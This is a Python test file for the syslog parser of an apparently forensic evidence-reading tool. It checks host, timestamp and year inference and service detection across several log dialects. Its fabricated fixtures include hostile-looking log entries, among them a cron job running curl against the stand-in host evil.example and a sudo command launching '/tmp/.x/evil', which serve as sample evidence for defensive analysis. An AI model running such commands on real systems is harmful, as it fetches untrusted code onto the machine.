from hypothesis import given
from hypothesis import strategies as st
from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything, typed_values
from tests.evidence_kit import PLANT, read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.syslog import Syslog
from nachsorge.evidence.stamps import ZONE_SPREAD, yearless
from nachsorge.model.times import SECOND, parse_instant
from nachsorge.model.words import Kind, Reason, Telemetry

READER = Syslog()
BODY = b"""\
<34>Mar 28 22:14:15 web01 sshd[811]: Accepted publickey for root from 192.0.2.7
Mar  9 02:00:00 web02 CRON[9]: (root) CMD (curl http://evil.example/x)
<165>1 2023-03-29T10:11:12.003+02:00 mail01 postfix 77 ID47 [a@32473 url="http://evil.example/\\]"] \xef\xbb\xbfsent
2023-03-29T08:00:00.5Z db01 kernel: martian source
"""
MODIFIED = parse_instant("2023-03-30")


def test_hosts_times_and_values():
    records, ledger = read_bytes(READER, BODY, modified=MODIFIED)
    assert [r.host for r in records] == ["web01", "web02", "mail01", "db01"]
    times = ("2023-03-28T22:14:15Z", "2023-03-09T02:00:00Z", "2023-03-29T08:11:12.003Z", "2023-03-29T08:00:00.5Z")
    assert [r.time for r in records] == [parse_instant(text) for text in times]
    assert {r.telemetry for r in records} == {Telemetry.SYSLOG}
    assert records[0].event["message"] == "Accepted publickey for root from 192.0.2.7"
    assert (Kind.URL, "http://evil.example/]") in typed_values(records[2:3])
    assert records[2].event["message"] == "sent"
    assert (Kind.TEXT, "(root) CMD (curl http://evil.example/x)") in typed_values(records)
    assert "year taken from the file's own time" in ledger.notes
    assert {seen.host for seen in ledger.seen()} == {"web01", "web02", "mail01", "db01"}


def test_without_the_file_time_a_missing_year_stays_unknown():
    records, ledger = read_bytes(READER, BODY)
    assert [r.time is None for r in records] == [True, True, False, False]
    assert [gap.reason for gap in ledger.gaps] == [Reason.NO_TIME]
    assert "year taken from the file's own time" not in ledger.notes


def test_december_in_a_file_of_january_is_last_year():
    records, _ = read_bytes(READER, b"Dec 31 23:59:59 h a: x\n", modified=parse_instant("2023-01-02"))
    assert records[0].time == parse_instant("2022-12-31T23:59:59Z")


@given(st.integers(1, 12), st.integers(1, 28), st.integers(1_000_000_000, 2_000_000_000))
def test_no_yearless_record_lies_after_the_file(month, day, modified):
    moment = yearless(month, day, (12, 0, 0), modified * SECOND)
    assert moment is not None
    assert moment <= modified * SECOND + ZONE_SPREAD
    assert moment > modified * SECOND + ZONE_SPREAD - 367 * 86400 * SECOND


def test_known_programs_are_taken_for_what_they_are():
    body = (
        b"Mar 28 22:14:15 ns1 dnsmasq[1]: query[A] evil.example from 192.0.2.7\n"
        b"Mar 28 22:14:16 ns1 named[2]: client @0x7f 192.0.2.8#5151 (evil.example): query: "
        b"evil.example IN A + (192.0.2.1)\n"
        b"Mar 28 22:14:17 fw CEF:0|V|P|1|7|web|3|src=192.0.2.9 request=http://evil.example/a\n"
        b"Mar 28 22:14:18 web01 sshd[1]: hello\n"
    )
    records, ledger = read_bytes(READER, body, modified=MODIFIED, addresses=frozenset({"192.0.2.8"}))
    assert [r.telemetry.value for r in records] == ["dns_query", "dns_query", "proxy", "syslog"]
    assert [r.host for r in records] == [None, None, None, "web01"]
    assert [r.addresses[:1] for r in records[:3]] == [("192.0.2.7",), ("192.0.2.8",), ("192.0.2.9",)]
    assert records[0].event["reporter"] == "ns1"
    assert "192.0.2.8" in {p.address for p in ledger.presence()}


def test_unreadable_lines_are_counted_and_located():
    body = BODY + b"no head evil.example\nMar 28 22:14:17 fw CEF:0|V|evil.example\n"
    records, ledger = read_bytes(READER, body, modified=MODIFIED)
    assert (ledger.unreadable, ledger.unreadable_at) == (2, ["line 5", "line 6"])
    assert records[-1].telemetry is Telemetry.TEXT
    holds_with_and_without_sieve(READER, body, b"evil")


def test_contract():
    holds_with_and_without_sieve(READER, BODY, b"evil")
    survives_anything(READER, BODY)


def test_the_plant_is_seen():
    planted = READER.plant(BODY, PLANT)
    assert planted is not None
    records, ledger = read_bytes(READER, planted, modified=MODIFIED)
    assert ledger.unreadable == 0
    assert any(PLANT.host in value.text for value in records[0].values)
    assert records[0].host == "web01"


def test_what_stands_where_a_host_would_is_no_host():
    body = (
        b"Mar 28 22:14:15 --- last message repeated 2 times ---\n"
        b"2023-03-29T10:11:12.5-07:00 INFO kernel: x\n"
        b"Mar 28 22:14:15 sshd[3]: x\n"
    )
    records, _ = read_bytes(READER, body, modified=MODIFIED)
    assert [r.host for r in records] == [None, None, None]


def test_logins_of_a_linux_host():
    body = (
        b"Mar 28 22:14:15 web01 sshd[811]: Failed password for invalid user adm from 192.0.2.7 port 5151 ssh2\n"
        b"Mar 28 22:14:16 web01 sudo:      kim : TTY=pts/0 ; PWD=/home/kim ; USER=root ; COMMAND=/tmp/.x/evil --all\n"
        b"2023-03-29T08:00:00.123456+02:00 web01 su[9]: pam_unix(su:session): session opened for user root(uid=0)\n"
    )
    found = reader_for(body, "auth.log")
    assert found is not None and found.name == "syslog"
    records, ledger = read_bytes(READER, body, modified=MODIFIED)
    assert [(r.host, r.service) for r in records] == [("web01", "sshd"), ("web01", "sudo"), ("web01", "su")]
    assert "192.0.2.7" in records[0].event["message"] and "COMMAND=/tmp/.x/evil --all" in records[1].event["message"]
    assert [r.locator for r in read_bytes(READER, body, b"/tmp/.x/evil", modified=MODIFIED)[0]] == ["line 2"]
    assert ledger.unreadable == 0 and ledger.seen()[0].spans


def test_macos_logs_as_they_are_written():
    body = (
        b"Mar 28 22:14:15 mac1 kernel[0]: AppleThunderboltNHIType2::prePCIWake - power up complete\n"
        b"Mar 28 22:14:16 mac1 com.apple.xpc.launchd[1] (com.3cx.agent[77]): Service exited with abnormal code: 1\n"
        b"Mar 28 22:14:17 mac1.local socketfilterfw[112] <Info>: 3CX Desktop App: Allow TCP LISTEN  (in:0 out:1)\n"
    )
    found = reader_for(body, "system.log")
    assert found is not None and found.name == "syslog"
    records, ledger = read_bytes(READER, body, modified=MODIFIED)
    assert [r.host for r in records] == ["mac1", "mac1", "mac1.local"]
    assert "com.3cx.agent[77]" in records[1].event["message"] and "3CX Desktop App" in records[2].event["message"]
    assert ledger.unreadable == 0 and "year taken from the file's own time" in ledger.notes


def test_a_journal_as_it_is_printed():
    body = (
        b"-- Journal begins at Mon 2023-03-27 10:00:00 CEST, ends at Wed 2023-03-29 10:00:00 CEST. --\n"
        b"Mar 28 22:14:15 web01 systemd[1]: Started evil.service.\n"
        b"Mar 28 22:14:16 web01 evil[77]: hello evil.example\n"
    )
    iso = b"2023-03-28T22:14:15+0200 web01 systemd[1]: Started evil.service.\n" * 2
    for text in (body, iso):
        found = reader_for(text, "journal.txt")
        assert found is not None and found.name == "syslog"
        records, _ = read_bytes(READER, text, modified=MODIFIED)
        assert {r.service for r in records if r.host == "web01"} >= {"systemd"}
    _, ledger = read_bytes(READER, body, modified=MODIFIED)
    assert ledger.unreadable_at == ["line 1"], "what is no message is counted and searched as text"


def test_real_syslog_of_many_dialects_names_real_hosts(shared_data):
    folder = shared_data / "plaso-host-artefacts" / "syslog"
    hosts: set[str | None] = set()
    for path in sorted(folder.glob("syslog*")):
        body = path.read_bytes()
        if READER.accepts(body, path.name):
            records, ledger = read_bytes(READER, body, modified=MODIFIED)
            assert len(records) == ledger.records
            assert ledger.unreadable * 2 < ledger.records + 1
            hosts |= {r.host for r in records}
    assert hosts >= {"ubuntu2015", "osx-machine", "victoria"}
    assert not hosts & {"---", "INFO", "DEBUG"}
